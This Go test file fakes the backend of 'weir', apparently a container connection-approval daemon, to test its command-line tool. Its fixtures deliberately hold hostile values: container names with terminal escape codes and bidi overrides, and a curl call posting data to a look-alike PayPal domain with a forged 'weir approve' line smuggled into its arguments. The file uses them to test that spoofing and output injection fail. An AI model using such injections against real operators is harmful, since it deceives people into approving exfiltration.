package main

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"github.com/rogpeppe/go-internal/testscript"

	"weir/internal/control"
	"weir/internal/daemon"
	"weir/internal/doctor"
	"weir/internal/event"
	"weir/internal/gate"

	"weir/internal/taint"
)

// TestMain offers weir to scripts: its kernel and its daemon are fakes.
func TestMain(m *testing.M) {
	start := func(euid int) func() {
		return func() {
			os.Exit(run(context.Background(), os.Args[1:], &system{
				stdin: os.Stdin, stdout: os.Stdout, stderr: os.Stderr, environ: os.Environ(), euid: euid, log: os.Getenv("EVENTS"),
				kernel: fakeKernel, daemon: fakeDaemon, watch: fakeWatch, detach: os.RemoveAll,
			}))
		}
	}
	testscript.Main(m, map[string]func(){"weir": start(0), "weir-user": start(1000)})
}

func TestScripts(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir:           "testdata",
		UpdateScripts: os.Getenv("UPDATE_SCRIPTS") != "",
		Setup: func(e *testscript.Env) error {
			// a socket's path must be short
			dir, err := os.MkdirTemp("", "weir")
			if err != nil {
				return err
			}
			e.Defer(func() { os.RemoveAll(dir) })
			e.Setenv("R", dir)
			return nil
		},
	})
}

func fakeKernel(string, *taint.Types) doctor.Report {
	if os.Getenv("FAKE") == "old" {
		return doctor.Report{{Name: "kernel", Result: doctor.Fail, Found: "Linux 5.10", Lost: "it is too old to enforce", Do: "run Linux 6.1 or newer"}}
	}
	return nil
}

// fakeWatch takes a moment after ctx, as if something were held.
func fakeWatch(ctx context.Context, _ string) error {
	<-ctx.Done()
	time.Sleep(50 * time.Millisecond)
	fmt.Println("nothing is held any more")
	return nil
}

// fakeDaemon serves a backend that knows one container.
func fakeDaemon(ctx context.Context, o daemon.Options, ready func()) error {
	switch os.Getenv("FAKE") {
	case "fail":
		return errors.New("load programs: no luck")
	case "die":
		return errors.Join(syscall.Kill(os.Getpid(), syscall.SIGKILL), errors.New("alive"))
	}
	server, err := control.Listen(o.RunDir)
	if err != nil {
		return err
	}
	hangups := make(chan os.Signal, 1)
	signal.Notify(hangups, syscall.SIGHUP)
	go func() {
		for range hangups {
			fmt.Println("policy loaded again:", o.PolicyPath)
			if err := os.WriteFile(filepath.Join(o.RunDir, "loaded"), nil, 0o600); err != nil { // the script waits for it
				fmt.Println(err)
			}
		}
	}()
	if os.Getenv("FAKE") == "silent" {
		o.StateDir = "" // as one of another version
	}
	ready()
	err = server.Serve(ctx, &fakeBackend{policy: o.PolicyPath, state: o.StateDir}, nil)
	fmt.Println("stopped")
	return err
}

type fakeBackend struct {
	policy, state string
}

func (b *fakeBackend) Status(context.Context) (control.Status, error) {
	return control.Status{
		Version: "v0", PID: 7, Mode: "enforce", Kernel: "6.1.0", Uptime: 3725, Policy: b.policy, State: b.state, Parents: []string{"/weir"},
		Containers: 1, Pending: 1, Counters: map[string]uint64{"denied": 2, "lost": 0}, Degraded: []string{"no udp_diag"},
	}, nil
}

// hostile is what a container may call itself.
const hostile = "web\x1b[2J\u202e\nfake"

func container() control.Container {
	return control.Container{ID: "c0ffee", Name: hostile, Cgroup: "/a/" + hostile, Taint: []string{"secret"}, By: "root (alice)", Live: true}
}

func (b *fakeBackend) ModelRefused(_ context.Context, r control.ModelRefusal) error {
	fmt.Println("refused:", r.Code)
	return nil
}

func (b *fakeBackend) Containers(context.Context) ([]control.Container, error) {
	return []control.Container{container()}, nil
}

func (b *fakeBackend) Events(_ context.Context, f event.Filter, _ bool, fn func(event.Event) error) error {
	e := event.Event{Time: time.Unix(1e9, 0).UTC(), Kind: event.Error, Message: hostile}
	if !f.Match(e) {
		return nil
	}
	return fn(e)
}

func (b *fakeBackend) Taint(_ context.Context, name string, bits []string, by, why string) (control.Container, error) {
	if name != "web" {
		return control.Container{}, fmt.Errorf("unknown container %q: see weir containers", name)
	}
	return control.Container{ID: "c0ffee", Name: "web", Taint: bits, By: by, Why: why}, nil
}

func (b *fakeBackend) Untaint(ctx context.Context, name string, _ []string, by, why string) (control.Container, error) {
	return b.Taint(ctx, name, nil, by, why)
}

func (b *fakeBackend) TaintPath(_ context.Context, path string, bits []string, by, why string) (control.Volume, error) {
	return control.Volume{Path: path, Taint: bits, By: by, Why: why}, nil
}

func (b *fakeBackend) UntaintPath(ctx context.Context, path string, _ []string, by, why string) (control.Volume, error) {
	return b.TaintPath(ctx, path, nil, by, why)
}

func (b *fakeBackend) Pending(context.Context) ([]gate.Question, error) {
	return []gate.Question{asked()}, nil
}

func (b *fakeBackend) History(context.Context, int) ([]gate.Question, error) {
	q := asked()
	uid := uint32(0)
	q.ID, q.State, q.Outcome, q.By, q.Why = "abc233", gate.StateUsed, gate.Approved, "root (alice)", "known \x1b[2Jsite"
	q.Asked, q.Answered = time.Unix(1e9, 0).UTC(), time.Unix(1e9+60, 0).UTC()
	q.From = &event.Origin{Via: "control", UID: &uid, PID: 9, Terminal: "pts/1", SSH: "192.0.2.9 5 192.0.2.1 22"}
	q.Shown = &event.Shown{Text: "program \x1b[2J", SHA256: "ab"}
	return []gate.Question{q}, nil
}

func (b *fakeBackend) Answer(_ context.Context, id string, r gate.Reply) (gate.Question, error) {
	q := asked()
	switch id {
	case "abc234":
		q.Chain = []event.Member{q.Process.Member(), {PID: 4700, Comm: "bash", Argv: []string{"bash", "fetch it.sh"}}}
	case "hook23":
		q.Text, q.Process.Argv, q.Destination = "npm install\n", []string{"weir-hook", "generic"}, event.Destination{}
	default:
		return gate.Question{}, gate.ErrUnknown
	}
	if r.Scope > len(q.Chain) {
		return gate.Question{}, fmt.Errorf("answer question %s: this question has no wider scope: %w", id, gate.ErrScope)
	}
	q.Scope, q.Gone = r.Scope, r.Why == "late"
	if r.Allow {
		q.Outcome = gate.Approved
	}
	q.By, q.Why, q.From, q.Shown = r.By, r.Why, r.From, &event.Shown{Text: r.Shown}
	return q, nil
}

func (b *fakeBackend) Log(context.Context) (*event.Stored, error) { return event.NewStored(nil), nil }

func (b *fakeBackend) Metrics(context.Context) (string, error) { return "", nil }

func (b *fakeBackend) Peer(context.Context, control.Peer) error { return nil }

func (b *fakeBackend) Why(context.Context, string) (control.Why, error) { return control.Why{}, nil }

func (b *fakeBackend) Approvals(context.Context) ([]gate.StandingApproval, error) { return nil, nil }

func (b *fakeBackend) Signed(context.Context, control.Signed) (string, error) { return "", nil }

func (b *fakeBackend) Moved(context.Context, []control.Elsewhere) ([]control.Wanted, error) {
	return nil, nil
}

func (b *fakeBackend) Revoke(_ context.Context, id, _, _ string) (gate.StandingApproval, error) {
	return gate.StandingApproval{}, gate.ErrNoneSuch
}

func (b *fakeBackend) Guard(context.Context, control.GuardRequest) (control.GuardReply, error) {
	return control.GuardReply{}, control.Errorf(control.Failed, "make cgroup: no space left")
}
func (b *fakeBackend) GuardCgroup(_ context.Context, r control.CgroupRequest) (control.Container, error) {
	return control.Container{ID: r.Cgroup, Name: r.Name, Cgroup: r.Cgroup, Taint: r.Taint}, nil
}
func (b *fakeBackend) GuardAgent(context.Context, string, int) error { return nil }
func (b *fakeBackend) GuardEnd(context.Context, string) (control.Summary, error) {
	return control.Summary{}, nil
}
func (b *fakeBackend) Mode(context.Context, string, string, string) error { return nil }
func (b *fakeBackend) Reload(context.Context) error                       { return nil }

func asked() gate.Question {
	return gate.Question{
		ID:        "abc234",
		Container: event.Container{ID: "c0ffee", Name: hostile, Taint: []string{"secret"}},
		Process: event.Process{
			PID: 4711, Start: 1, UID: 1000, Comm: "curl",
			Exe:    &event.File{Path: "/tmp/cu\x1brl", Device: 254, Inode: 99, Memfd: true, Deleted: true},
			Argv:   []string{"curl", "-d", "a b\nanswer       weir approve zzz999", "https://p\u0430ypal.com/"},
			Script: "./x.sh", Interp: "/bin/sh", Env: []string{"LD_PRELOAD"}, Truncated: true,
			Ancestry: []event.Ancestor{{PID: 4700, Comm: "ba\x1bsh"}, {PID: 1, Comm: "init"}},
		},
		Destination: event.Destination{Address: "192.0.2.1", Port: 443, Protocol: "tcp"},
		Held:        true,
		State:       gate.StatePending,
		Askers:      2,
	}
}
